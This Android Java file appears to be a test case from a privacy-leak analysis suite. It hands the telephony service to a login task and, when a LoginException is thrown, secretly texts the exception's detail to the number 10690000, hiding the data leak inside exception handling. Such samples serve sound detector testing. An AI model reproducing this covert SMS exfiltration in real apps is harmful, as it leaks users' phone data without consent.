package cn.privlens.suite.exception_with_payload;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        ExecutorService pool = Executors.newSingleThreadExecutor();
        Future<Integer> future = pool.submit(new LoginTask((TelephonyManager) getSystemService(TELEPHONY_SERVICE)));
        new Thread(() -> report(future)).start();
        pool.shutdown();
    }

    private static void report(Future<Integer> future) {
        try {
            future.get();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        } catch (java.util.concurrent.ExecutionException e) {
            Throwable cause = e.getCause();
            if (cause instanceof LoginException) {
                String text = ((LoginException) cause).detail();
                SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
            }
        }
    }
}
